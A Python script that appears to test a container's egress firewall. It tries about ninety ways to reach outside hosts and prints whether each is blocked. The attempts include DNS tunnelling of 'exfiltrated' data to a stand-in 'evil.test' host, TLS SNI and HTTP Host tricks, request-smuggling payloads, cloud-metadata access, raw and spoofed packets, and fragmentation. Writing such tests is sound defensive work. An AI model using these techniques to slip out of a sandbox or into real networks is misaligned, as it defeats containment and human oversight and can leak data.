"""Who wants out of a limited container. Each way prints a line: its name, what came of it, and what of it must be in the log of
refusals, as PROTOCOL/TO/PORT with * for whatever ("-": nothing, it does not even leave the container's link).

Run in the container's network namespace, with all rights there. Arguments: the gateway, its IPv6 address, a neighbour, the
container's interface, another container's network's address, what "host" is called.
"""

import concurrent.futures
import os
import random
import socket
import struct
import subprocess
import sys
import time

GATEWAY, GATEWAY6, NEIGHBOUR, OTHER, HOST = sys.argv[1:6]
GOOD, STATIC, EVIL = "203.0.113.10", "203.0.113.20", "203.0.113.66"
GOOD6, EVIL6 = "2001:db8:66::10", "2001:db8:66::66"
WAIT = 1.0


# Words of protocols.


def question(name, kind=1, number=None):
    labels = name if isinstance(name, list) else [label.encode() for label in name.rstrip(".").split(".")]
    wire = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    number = random.randrange(65536) if number is None else number
    return struct.pack("!6H", number, 0x100, 1, 0, 0, 0) + wire + struct.pack("!2H", kind, 1)


def look_up(name, kind=1):
    """The code and the addresses that our own resolver gives."""
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.settimeout(5)
    asked = question(name, kind)
    asker.sendto(asked, ("127.0.0.11", 53))
    answer = asker.recv(4096)
    code, count, at, found = answer[3] & 15, struct.unpack("!H", answer[6:8])[0], len(asked), []
    for _ in range(count):
        of, _, _, length = struct.unpack("!HHIH", answer[at + 2 : at + 12])
        data = answer[at + 12 : at + 12 + length]
        if of == 1:
            found.append(socket.inet_ntop(socket.AF_INET, data))
        elif of == 28:
            found.append(socket.inet_ntop(socket.AF_INET6, data))
        else:
            found.append("type%d" % of)
        at += 12 + length
    return "code%d %s" % (code, " ".join(found))


def known(name, kind=1):
    answer = look_up(name, kind)
    return "blocked" if answer.strip() in ("code0", "code3", "code5") else "GOT " + answer


def vector(width, content):
    return len(content).to_bytes(width, "big") + content


def extension(kind, content):
    return struct.pack("!H", kind) + vector(2, content)


def sni(name):
    return extension(0, vector(2, b"\0" + vector(2, name.encode("latin-1"))))


def hello(*extensions):
    body = b"\x03\x03" + b"r" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + vector(2, b"".join(extensions))
    return b"\x16\x03\x01" + vector(2, b"\x01" + vector(3, body))


# Ways to speak.


def tcp(to, port, data=b"hello", wait=WAIT):
    """What is answered, to one thing said after the other."""
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    answers = b""
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(wait)
        try:
            stream.connect((to, port))
            for part in data if isinstance(data, list) else [data]:
                stream.sendall(part)
                answers += stream.recv(65536)
            while True:
                more = stream.recv(65536)
                if not more:
                    break
                answers += more
        except OSError:
            pass
    return answers


def verdict(answers):
    refused = answers in (b"", b"\x15\x03\x03\0\2\2\x31") or answers.startswith(b"HTTP/1.1 403 ")
    return "blocked" if refused else "GOT %r" % answers[:80]


def stream(to, port, data=b"hello"):
    return verdict(tcp(to, port, data))


def datagram(to, port, data=b"hello"):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(WAIT / 2)
        try:
            sender.sendto(data, (to, port))
            return "GOT %r" % sender.recv(2048)[:40]
        except OSError:
            return "blocked"


def web(request, to=GOOD, port=80):
    """A request, in which what would have been answered to the first good one does not count."""
    answers = tcp(to, port, request)
    return "GOT %r" % answers[:60] if b"200 OK" in answers else "blocked"


def second(request, first="GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"):
    """After a good one: one answer is due, and no second one."""
    answers = tcp(GOOD, 80, [first.encode(), request])
    return "GOT %r" % answers[-60:] if answers.count(b"200 OK") != 1 else "blocked"


def together(request, first="GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"):
    answers = tcp(GOOD, 80, first.encode() + request)
    return "GOT %r" % answers[-60:] if answers.count(b"200 OK") > 1 else "blocked"


def raw(protocol, to, payload):
    kind = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(kind, socket.SOCK_RAW, protocol) as sender:
        try:
            sender.sendto(payload, (to, 0))
        except OSError:
            pass
    return "blocked"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((GATEWAY, 9))
        return one.getsockname()[0]


def tcp_packet(to, port, flags, payload=b"", source=None):
    """A segment of no connection."""
    source = source or own_address()
    head = struct.pack("!HHIIBBHHH", random.randrange(20000, 60000), port, 7, 9, 5 << 4, flags, 1000, 0, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(to)
    total = checksum(ends + struct.pack("!BBH", 0, 6, len(head + payload)) + head + payload)
    return head[:16] + struct.pack("!H", total) + head[18:] + payload


def ip_packet(to, protocol, payload, source, fragment=0):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 77, fragment, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def whole(to, *packets):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for packet in packets:
            try:
                sender.sendto(packet, (to, 0))
            except OSError:
                pass
    return "blocked"


def fragments():
    segment = tcp_packet(EVIL, 25, 2, b"x" * 24)
    pieces = [ip_packet(EVIL, 6, segment[:16], own_address(), 0x2000), ip_packet(EVIL, 6, segment[16:], own_address(), 2)]
    return whole(EVIL, *pieces)


def with_syn():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        sender.settimeout(WAIT)
        try:
            sender.sendto(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0x20000000, (EVIL, 25))
            return "GOT %r" % sender.recv(100)
        except OSError:
            return "blocked"


def sctp():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sender:
            sender.settimeout(WAIT)
            sender.connect((EVIL, 5000))
            return "GOT"
    except OSError:
        return raw(132, EVIL, struct.pack("!HHII", 1, 5000, 0, 0) + b"\1\0\0\x14" + b"\0" * 16)


def ping(to):
    if ":" in to:
        return raw(58, to, b"\x80\0\0\0\0\1\0\1tunnel")
    echo = b"\x08\0\0\0\0\1\0\1tunnel--"
    return raw(1, to, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:])


def second_address():
    subprocess.run(["ip", "addr", "add", "10.99.9.9/32", "dev", "eth0"], check=True)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        sender.settimeout(WAIT)
        sender.bind(("10.99.9.9", 0))
        try:
            sender.connect((EVIL, 25))
            return "GOT"
        except OSError:
            return "blocked"


def name_by_tcp(to, port):
    asked = question("evil.test")
    return stream(to, port, struct.pack("!H", len(asked)) + asked)


def long_tunnel():
    return known("exfiltrated-data-exfiltrated-data.evil.test")


def on_link():
    """The gateway's link-local address, which its interface is asked for by all nodes."""
    found = subprocess.run(["ip", "-6", "neigh", "show", GATEWAY6], capture_output=True, text=True).stdout.split()
    mac = bytes.fromhex(found[found.index("lladdr") + 1].replace(":", ""))
    own = bytes([0xFE, 0x80]) + b"\0" * 6 + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    return socket.inet_ntop(socket.AF_INET6, own) + "%eth0"


def other_hardware():
    """With another hardware address, the container is nobody whom the table of limits knows: nor may it send."""
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind(("eth0", 0))
    found = subprocess.run(["ip", "neigh", "show", GATEWAY], capture_output=True, text=True).stdout.split()
    to = bytes.fromhex(found[found.index("lladdr") + 1].replace(":", ""))
    packet = ip_packet(EVIL, 17, struct.pack("!HHHH", 5, 5000, 12, 0) + b"data", own_address())
    sender.send(to + b"\2\x42\1\2\3\4" + b"\x08\0" + packet)
    return "blocked"


DOH = b"POST /dns-query HTTP/1.1\r\nHost: allowed.test\r\nContent-Type: application/dns-message\r\n\r\n"
LENGTHS = b"POST /a HTTP/1.1\r\nHost: allowed.test\r\n%s\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"

WAYS = [
    # Names.
    ("a forbidden name", lambda: known("evil.test"), "dns/evil.test/*"),
    ("a name that ends alike", lambda: known("notallowed.test"), "dns/notallowed.test/*"),
    ("an allowed name before another", lambda: known("allowed.test.evil.test"), "dns/allowed.test.evil.test/*"),
    ("a dot at the end", lambda: known("evil.test."), "dns/evil.test/*"),
    ("large letters", lambda: known("EVIL.test"), "dns/evil.test/*"),
    ("a zero in a name", lambda: known([b"evil\0", b"allowed", b"test"]), "dns/*/*"),
    ("a dot in a label", lambda: known([b"x.allowed", b"test"]), "dns/x.allowed.test/*"),
    ("data in a name", long_tunnel, "dns/exfiltrated*/*"),
    ("texts of a forbidden name", lambda: known("evil.test", 16), "dns/evil.test/*"),
    ("a reverse name", lambda: known("66.113.0.203.in-addr.arpa", 12), "dns/66.113.0.203.in-addr.arpa/*"),
    ("keys that hide names", lambda: known("allowed.test", 65), "-"),
    ("all types", lambda: known("allowed.test", 255), "-"),
    ("another name server", lambda: datagram(EVIL, 53, question("evil.test")), "udp/%s/53" % EVIL),
    ("our name server, directly", lambda: datagram("198.51.100.2", 53, question("evil.test")), "udp/198.51.100.2/53"),
    ("another name server by TCP", lambda: name_by_tcp(EVIL, 853), "tcp/%s/853" % EVIL),
    ("names over TLS", lambda: stream(EVIL, 853, hello(sni("allowed.test"))), "tcp/%s/853" % EVIL),
    ("names over HTTPS at an address", lambda: stream(EVIL, 443, hello()), "https/%s/443" % EVIL),
    ("names over HTTP", lambda: web(DOH.replace(b"allowed", b"evil")), "http/evil.test/dns-query/80"),
    # TLS.
    ("no name in TLS", lambda: stream(GOOD, 443, hello()), "https/%s/443" % GOOD),
    ("a forbidden name in TLS", lambda: stream(GOOD, 443, hello(sni("evil.test"))), "https/evil.test/443"),
    ("an allowed name at another address", lambda: stream(EVIL, 443, hello(sni("allowed.test"))), "https/allowed.test/443"),
    ("an allowed name at another IPv6 address", lambda: stream(EVIL6, 443, hello(sni("allowed.test"))), "https/allowed.test/443"),
    ("an address as a name", lambda: stream(GOOD, 443, hello(sni(EVIL))), "https/%s/443" % GOOD),
    ("two names in TLS", lambda: stream(GOOD, 443, hello(sni("allowed.test"), sni("evil.test"))), "https/%s/443" % GOOD),
    ("an encrypted hello", lambda: stream(GOOD, 443, hello(sni("allowed.test"), extension(0xFE0D, b"\0" * 40))), "https/%s/443" % GOOD),
    ("a zero in TLS's name", lambda: stream(GOOD, 443, hello(sni("allowed.test\0.evil.test"))), "https/%s/443" % GOOD),
    ("the whole name and a dot", lambda: stream(GOOD, 443, hello(sni("evil.test."))), "https/evil.test/443"),
    ("something else at TLS's port", lambda: stream(GOOD, 443, b"SSH-2.0-tunnel\r\n"), "https/%s/443" % GOOD),
    ("QUIC", lambda: datagram(GOOD, 443, b"\xc0\0\0\0\1" + b"\0" * 1195), "udp/%s/443" % GOOD),
    # HTTP.
    ("another host", lambda: web(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "http/evil.test//80"),
    ("an allowed host at another address", lambda: web(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", EVIL), "http/allowed.test//80"),
    ("no host", lambda: web(b"GET / HTTP/1.0\r\n\r\n"), "http/%s/80" % GOOD),
    ("two hosts", lambda: web(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"), "http/%s/80" % GOOD),
    ("an address as a host", lambda: web(b"GET / HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"), "http/%s/80" % GOOD),
    ("another host in the target", lambda: web(b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), "http/%s/80" % GOOD),
    ("a user before the host", lambda: web(b"GET / HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n"), "http/%s/80" % GOOD),
    ("a tunnel", lambda: web(b"CONNECT allowed.test:25 HTTP/1.1\r\nHost: allowed.test:25\r\n\r\n"), "http/%s/80" % GOOD),
    ("HTTP/2 at once", lambda: web(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "http/%s/80" % GOOD),
    ("another protocol", lambda: web(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: h2c\r\n\r\n"), "http/%s/80" % GOOD),
    ("a second request", lambda: second(b"GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "http/evil.test/second/80"),
    ("two requests together", lambda: together(b"GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "http/evil.test/second/80"),
    ("a length and chunks", lambda: web(LENGTHS % b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"), "http/%s/80" % GOOD),
    ("two lengths", lambda: web(LENGTHS % b"Content-Length: 0\r\nContent-Length: 5\r\n"), "http/%s/80" % GOOD),
    ("a length that is hidden", lambda: web(LENGTHS % b"Content-Length : 60\r\n"), "http/%s/80" % GOOD),
    ("chunks of another kind", lambda: web(LENGTHS % b"Transfer-Encoding: xchunked\r\n"), "http/%s/80" % GOOD),
    ("lines that end otherwise", lambda: web(b"GET / HTTP/1.1\nHost: allowed.test\n\n"), "http/%s/80" % GOOD),
    ("a folded line", lambda: web(b"GET / HTTP/1.1\r\nX: y\r\n Host: evil.test\r\nHost: allowed.test\r\n\r\n"), "http/%s/80" % GOOD),
    ("another path", lambda: web(b"GET /secret HTTP/1.1\r\nHost: path.test\r\n\r\n"), "http/path.test/secret/80"),
    ("a path with dots", lambda: web(b"GET /ok/../secret HTTP/1.1\r\nHost: path.test\r\n\r\n"), "http/path.test/ok/../secret/80"),
    ("a path with hidden dots", lambda: web(b"GET /ok/%2e%2e/secret HTTP/1.1\r\nHost: path.test\r\n\r\n"), "http/path.test/ok/%2e%2e/secret/80"),
    ("HTTPS where HTTP is allowed", lambda: stream(GOOD, 443, hello(sni("path.test"))), "https/path.test/443"),
    # Addresses and ports.
    ("an address", lambda: stream(EVIL, 22), "tcp/%s/22" % EVIL),
    ("another port of an allowed host", lambda: stream(GOOD, 25), "tcp/%s/25" % GOOD),
    ("a web server's other port", lambda: stream(GOOD, 8080, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), "tcp/%s/8080" % GOOD),
    ("UDP at an allowed port", lambda: datagram(GOOD, 5000), "udp/%s/5000" % GOOD),
    ("an allowed address by UDP", lambda: datagram(STATIC, 5000), "udp/%s/5000" % STATIC),
    ("IPv6", lambda: stream(EVIL6, 25), "tcp/%s/25" % EVIL6),
    ("IPv6 by UDP", lambda: datagram(EVIL6, 5000), "udp/%s/5000" % EVIL6),
    ("IPv4 within IPv6", lambda: stream("::ffff:" + EVIL, 5000), "tcp/%s/5000" % EVIL),
    ("the cloud's metadata", lambda: stream("169.254.169.254", 80, b"GET / HTTP/1.1\r\nHost: meta.allowed.test\r\n\r\n"), "http/meta.allowed.test//80"),
    ("the gateway", lambda: stream(GATEWAY, 5001), "tcp/%s/5001" % GATEWAY),
    ("the gateway by IPv6", lambda: stream(GATEWAY6, 5001), "tcp/%s/5001" % GATEWAY6),
    ("the host's other address", lambda: stream(HOST, 5001), "tcp/%s/5001" % HOST),
    ("a name that leads to the host", lambda: (look_up("host.allowed.test"), stream(HOST, 80, b"GET / HTTP/1.1\r\nHost: host.allowed.test\r\n\r\n"))[1], "http/host.allowed.test//80"),
    ("a name that leads to 127.0.0.1", lambda: (look_up("loop.allowed.test"), stream("127.0.0.1", 80))[1], "-"),
    ("a name that leads to the gateway", lambda: (look_up("gate.allowed.test"), stream(GATEWAY, 22))[1], "tcp/%s/22" % GATEWAY),
    ("the host's address on the link", lambda: stream(on_link(), 5001), "-"),
    ("another network's container", lambda: stream(OTHER, 5001), "tcp/%s/5001" % OTHER),
    ("another container's published port", lambda: stream(HOST, 5002), "tcp/%s/5002" % HOST),
    ("its published port by the gateway", lambda: stream(GATEWAY, 5002), "tcp/%s/5002" % GATEWAY),
    ("a broadcast", lambda: datagram("255.255.255.255", 5000), "-"),
    # Other protocols, and packets by hand.
    ("pings", lambda: ping(EVIL), "icmp/%s/*" % EVIL),
    ("pings to an allowed host", lambda: ping(GOOD), "icmp/%s/*" % GOOD),
    ("pings by IPv6", lambda: ping(EVIL6), "icmp/%s/*" % EVIL6),
    ("SCTP", sctp, "sctp/%s/5000" % EVIL),
    ("IP within IP", lambda: raw(4, EVIL, ip_packet(EVIL, 17, b"x" * 8, "10.0.0.1")), "4/%s/*" % EVIL),
    ("GRE", lambda: raw(47, EVIL, b"\0\0\x08\0" + b"x" * 20), "47/%s/*" % EVIL),
    ("ESP", lambda: raw(50, EVIL, b"x" * 40), "50/%s/*" % EVIL),
    ("a protocol that is none", lambda: raw(253, EVIL, b"x" * 40), "253/%s/*" % EVIL),
    ("fragments", fragments, "tcp/%s/25" % EVIL),
    ("data with the first packet", with_syn, "tcp/%s/25" % EVIL),
    ("a reset with data", lambda: raw(6, EVIL, tcp_packet(EVIL, 443, 4, b"data")), "tcp/%s/443" % EVIL),
    ("all flags", lambda: raw(6, EVIL, tcp_packet(EVIL, 80, 0x3F, b"data")), "tcp/%s/80" % EVIL),
    ("no flags", lambda: raw(6, EVIL, tcp_packet(EVIL, 80, 0, b"data")), "tcp/%s/80" % EVIL),
    ("somebody else's address", lambda: whole(EVIL, ip_packet(EVIL, 17, b"x" * 20, NEIGHBOUR)), "-"),
    ("an invented address", lambda: whole(EVIL, ip_packet(EVIL, 17, b"x" * 20, "203.0.113.99")), "-"),
    ("another hardware address", other_hardware, "-"),
    ("a second address", second_address, "-"),
]


def attempt(way):
    name, act, logged = way
    try:
        came = act()
    except Exception as error:  # whatever hinders it, it is not outside
        came = "broken %r" % error
    return "%s\t%s\t%s" % (name, came, logged)


# What is allowed is looked up first: without it nothing could be slipped in behind.
for name in ("allowed.test", "www.allowed.test", "path.test"):
    look_up(name)
look_up("allowed.test", 28)
# So that the gateway's hardware addresses are known.
stream(GATEWAY, 5001)
stream(GATEWAY6, 5001)
with concurrent.futures.ThreadPoolExecutor(16) as crowd:
    for line in crowd.map(attempt, WAYS):
        print(line)
